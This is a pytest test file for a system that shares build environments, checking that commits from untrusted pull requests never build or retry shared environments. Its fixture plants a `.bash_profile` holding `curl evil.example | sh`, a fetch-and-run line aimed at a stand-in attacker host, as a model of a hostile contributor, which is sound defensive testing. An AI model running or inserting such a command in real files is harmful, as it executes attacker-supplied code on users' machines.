"""Commits that a stranger may have made. They use shared environments but never build one."""

import pytest

from bindery.domain.environment import EnvironmentState, Identity, Scope
from bindery.domain.errors import BinderyError, HostLimited, HostUnreachable
from bindery.domain.failure import Failure
from bindery.domain.launch import Launch, Stage
from bindery.state.environment_keys import KEPT_SECONDS, UNKNOWN_SECONDS
from bindery.usecases.steps.claim_environment import ClaimEnvironment
from bindery.usecases.steps.identify_environment import IdentifyEnvironment
from bindery.usecases.steps.know_commit import KnowCommit
from tests.fakes.host import COMMIT
from tests.fakes.in_memory_system import InMemorySystem
from tests.fakes.many import REPOSITORY

STRANGERS = "e" * 40
PULL = "o/r/pull/1/head"
BY_ID = f"o/r/{STRANGERS}"
SILENT = (HostUnreachable(host="host.example", why="no answer"), HostLimited(host="host.example", at=1))


def with_pull_request(*, own_refs_only: bool = False) -> InMemorySystem:
    """Return a system with a pull request that leaves the configuration files unchanged."""
    system = InMemorySystem(own_refs_only=own_refs_only)
    system.host.heads["o/r/pull/1"] = STRANGERS
    system.host.files[STRANGERS] = {**(system.host.files[COMMIT] or {}), ".bash_profile": b"curl evil.example | sh\n"}
    return system


@pytest.fixture
def system() -> InMemorySystem:
    return with_pull_request()


def stage(system: InMemorySystem, launch: Launch) -> Stage:
    return system.launch(launch).stage


def test_a_foreign_commit_does_not_build_the_environment_of_the_branch(system: InMemorySystem) -> None:
    strangers, own = system.ready(PULL), system.ready()
    assert strangers.environment != own.environment
    assert [(order.repository.ref, order.scope) for order in system.builds.started] == [
        (STRANGERS, "commit"),
        (COMMIT, "files"),
    ]


@pytest.mark.parametrize("spec", [PULL, BY_ID])
def test_a_foreign_commit_uses_an_existing_shared_environment_without_a_lookup(
    system: InMemorySystem, spec: str
) -> None:
    own, strangers = system.ready(), system.ready(spec)
    assert (strangers.environment, strangers.image) == (own.environment, own.image)
    assert len(system.builds.started) == 1
    assert system.host.looked_up == []


def test_a_foreign_commit_waits_for_a_shared_environment_that_is_being_built(system: InMemorySystem) -> None:
    own, strangers = system.open(), system.open(PULL)
    system.build()
    assert len(system.builds.started) == 1
    assert (stage(system, own), stage(system, strangers)) == (Stage.READY, Stage.READY)
    assert system.host.looked_up == []


def test_a_foreign_commit_does_not_retry_a_failed_shared_environment(system: InMemorySystem) -> None:
    launch = system.open()
    system.pump()
    system.builds.stop(f"{system.launch(launch).environment}-1")
    system.pump()
    assert system.ready(PULL).environment != system.launch(launch).environment
    assert [order.attempt for order in system.builds.started] == [1, 1]


def test_a_foreign_commit_does_not_rebuild_a_shared_environment_with_a_lost_image(system: InMemorySystem) -> None:
    own = system.ready()
    system.builds.images.clear()
    strangers = system.ready(PULL)
    assert strangers.environment != own.environment
    assert system.builds.started[-1].repository.ref == STRANGERS
    assert system.ready().environment == own.environment


def test_a_foreign_launch_whose_image_is_gone_at_its_start_builds_its_own(system: InMemorySystem) -> None:
    own = system.ready()
    strangers = system.open(PULL)
    system.handle(system.queue.pop())
    system.launcher.gone.add(own.image)
    system.builds.images.clear()
    system.build()
    now = system.launch(strangers)
    assert now.stage is Stage.READY
    assert now.environment != own.environment


def test_a_foreign_launch_whose_shared_build_is_lost_builds_its_own(system: InMemorySystem) -> None:
    own, strangers = system.open(), system.open(PULL)
    system.pump()
    shared = system.launch(own).environment
    assert system.launch(strangers).environment == shared
    system.bindery.stop_launch(own.id)
    system.pump()
    del system.builds.reports[f"{shared}-1"]
    system.bindery.reconcile(ahead=10_000)
    system.build()
    now = system.launch(strangers)
    assert (now.stage, system.builds.started[-1].repository.ref) == (Stage.READY, STRANGERS)
    assert now.environment != shared


def test_a_prebuild_of_a_foreign_commit_does_not_build_a_shared_environment(system: InMemorySystem) -> None:
    launch = system.open(PULL, build_only=True)
    system.build()
    environment = system.bindery.state.environments.find(system.launch(launch).environment)
    assert environment
    assert environment.scope is Scope.COMMIT


def test_the_environment_of_a_foreign_commit_is_reused_without_another_lookup(system: InMemorySystem) -> None:
    first = system.ready(PULL)
    system.clock.advance(UNKNOWN_SECONDS + 1)
    second = system.ready(PULL)
    assert (second.environment, len(system.builds.started)) == (first.environment, 1)
    assert system.host.looked_up == [STRANGERS]


def test_a_commit_by_its_id_builds_a_shared_environment_if_a_branch_contains_it(system: InMemorySystem) -> None:
    system.host.own.add(STRANGERS)
    launch = system.ready(BY_ID)
    assert system.builds.started[0].scope == "files"
    assert system.builds.started[0].repository.on_branch_or_tag
    system.builds.images.clear()
    system.clock.advance(KEPT_SECONDS - 1)
    assert system.ready(BY_ID).environment == launch.environment
    assert system.host.looked_up == [STRANGERS]
    system.builds.images.clear()
    system.clock.advance(2)
    system.ready(BY_ID)
    assert system.host.looked_up == [STRANGERS, STRANGERS]


def test_a_former_tip_of_a_branch_is_still_known_by_its_id(system: InMemorySystem) -> None:
    system.ready()
    system.host.heads["o/r"] = "d" * 40
    system.builds.images.clear()
    system.ready(f"o/r/{COMMIT}")
    assert system.builds.started[-1].scope == "files"
    assert system.host.looked_up == []


def test_a_negative_branch_lookup_is_cached_briefly(system: InMemorySystem) -> None:
    system.ready(PULL)
    system.builds.images.clear()
    system.host.own.add(STRANGERS)  # the pull request is merged
    system.ready(PULL)
    assert system.builds.started[-1].scope == "commit"
    system.builds.images.clear()
    system.clock.advance(UNKNOWN_SECONDS + 1)
    system.ready(PULL)
    assert system.builds.started[-1].scope == "files"


@pytest.mark.parametrize("trouble", SILENT)
def test_an_unreachable_host_counts_as_a_negative_lookup_that_is_not_cached(
    system: InMemorySystem, trouble: BinderyError
) -> None:
    system.host.own.add(STRANGERS)
    system.host.silent = trouble
    system.ready(BY_ID)
    assert system.builds.started[-1].scope == "commit"
    system.builds.images.clear()
    system.host.silent = None
    system.ready(BY_ID)
    assert system.builds.started[-1].scope == "files"


def test_a_private_repository_is_built_for_each_commit_without_a_lookup(system: InMemorySystem) -> None:
    private = system.host.resolve(PULL).repository.model_copy(update={"private": True})
    state, builds = system.bindery.state, system.builds
    know_commit = KnowCommit(state.commits)
    identify = IdentifyEnvironment(builds, state.commits)
    claim = ClaimEnvironment(state.environments, identify, know_commit, builds, state.claims)
    assert claim(system.host, private, system.open(PULL)).scope is Scope.COMMIT
    assert system.host.looked_up == []


def test_an_unverified_commit_cannot_claim_a_shared_environment() -> None:
    environments = InMemorySystem().bindery.state.environments
    identity = Identity.of(Scope.TREE, {"tree": "1"})
    with pytest.raises(ValueError, match="may not build"):
        environments.claim(
            identity, REPOSITORY.model_copy(update={"on_branch_or_tag": False}), "a launch", lambda _: True
        )
    assert environments.find(identity.key) is None
    assert environments.claim(identity, REPOSITORY, "a launch", lambda _: True).state is EnvironmentState.BUILDING


def test_only_own_refs_a_foreign_commit_is_refused_even_with_an_environment() -> None:
    system = with_pull_request(own_refs_only=True)
    system.ready()
    launch = system.open(PULL)
    system.pump()
    failure = system.launch(launch).failure
    assert failure
    assert (failure.kind, failure.facts["ref"]) == ("ForeignCommit", STRANGERS)
    assert len(system.builds.started) == 1


def test_only_own_refs_a_commit_by_its_id_is_launched_if_a_branch_contains_it() -> None:
    system = with_pull_request(own_refs_only=True)
    system.host.own.add(STRANGERS)
    system.ready(BY_ID)
    system.ready(BY_ID)
    assert system.host.looked_up == [STRANGERS]


def test_only_own_refs_an_unreachable_host_is_retried_and_then_reported() -> None:
    system = with_pull_request(own_refs_only=True)
    system.host.silent = SILENT[0]
    launch = system.open(PULL)
    system.pump()
    failure = system.launch(launch).failure
    assert failure == Failure.of(SILENT[0])
    assert len(system.host.looked_up) == 3
